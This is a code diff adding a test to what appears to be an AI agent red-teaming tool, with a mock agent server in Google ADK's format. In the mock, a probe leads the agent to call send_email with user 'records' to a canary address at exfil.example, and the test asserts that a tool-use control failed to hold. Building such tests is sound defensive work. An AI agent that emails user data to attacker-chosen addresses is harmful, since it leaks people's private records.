@@ -338,3 +338,60 @@ def test_whole_tool_calls_that_share_an_index_stay_apart():
                {"index": 0, "function": {"name": "send_email", "arguments": '{"to": "eve@x.example"}'}}]]
     assert [(c["name"], c["arguments"]) for c in tool_calls(_joined(answer))] == [
         ("order_lookup", '{"order": 1}'), ("send_email", '{"to": "eve@x.example"}')]
+
+
+def test_an_agent_server_answering_with_a_list_of_events_is_read_with_wildcard_paths(tmp_path):
+    # Shaped as Google ADK's api_server answers (checked against a real one): a session opened first,
+    # then /run gives every event of the turn — the model's calls, the tools' answers, its text.
+    import re
+    import uuid
+
+    from starlette.applications import Starlette
+    from starlette.requests import Request
+    from starlette.responses import JSONResponse
+    from starlette.routing import Route
+
+    from demarcate.serve import BackgroundServer
+
+    sessions: set[str] = set()
+
+    async def open_session(request: Request) -> JSONResponse:
+        sessions.add(ident := str(uuid.uuid4()))
+        return JSONResponse({"id": ident, "appName": "shop", "userId": "tester", "state": {}, "events": []})
+
+    async def run(request: Request) -> JSONResponse:
+        asked = await request.json()
+        if asked["session_id"] not in sessions:
+            return JSONResponse({"detail": "Session not found"}, 404)
+        to = re.search(r"[\w.+-]+@[\w.-]+\w", asked["new_message"]["parts"][0]["text"]).group(0)
+
+        def event(role: str, part: dict) -> dict:
+            return {"content": {"parts": [part], "role": role}, "author": "shop", "id": str(uuid.uuid4())}
+
+        return JSONResponse([
+            event("model", {"text": "Let me send that."}),
+            event("model", {"functionCall": {"id": "adk-1", "name": "send_email", "args": {"to": to, "body": "records"}}}),
+            event("user", {"functionResponse": {"id": "adk-1", "name": "send_email", "response": {"status": "sent"}}}),
+            event("model", {"text": " Done."})])
+
+    server = BackgroundServer(Starlette(routes=[Route("/apps/shop/users/tester/sessions", open_session, methods=["POST"]),
+                                                Route("/run", run, methods=["POST"])])).start()
+    spec = tmp_path / "target.yaml"
+    spec.write_text(dump_yaml({
+        "url": server.url + "/run",
+        "body": {"app_name": "shop", "user_id": "tester", "session_id": "{session}",
+                 "new_message": {"role": "user", "parts": [{"text": "{message}"}]}},
+        "reply": "*.content.parts.*.text", "tool-calls": "*.content.parts.*.functionCall", "tool-calls-ran": True,
+        "context": "*.content.parts.*.functionResponse.response",
+        "start": {"url": server.url + "/apps/shop/users/tester/sessions", "body": {}, "id": "id"}}))
+    try:
+        (result,) = run_campaign(load([SHOPBOT]), target=f"http:{spec}", probes="user-email-records",
+                                 db=str(tmp_path / "h.sqlite"))["results"]
+    finally:
+        server.stop()
+    assert result["evidence"]["reply"] == "Let me send that. Done."  # every text part, in order
+    (call,) = result["evidence"]["tool_calls"]
+    assert call["name"] == "send_email" and call["arguments"]["to"] == f"{result['canary']}@exfil.example"
+    assert result["evidence"]["context"] == ["sent"]
+    gate = next(x for x in result["chain"] if x.get("control") == "APP-TOOL-02")
+    assert gate["held"] is False
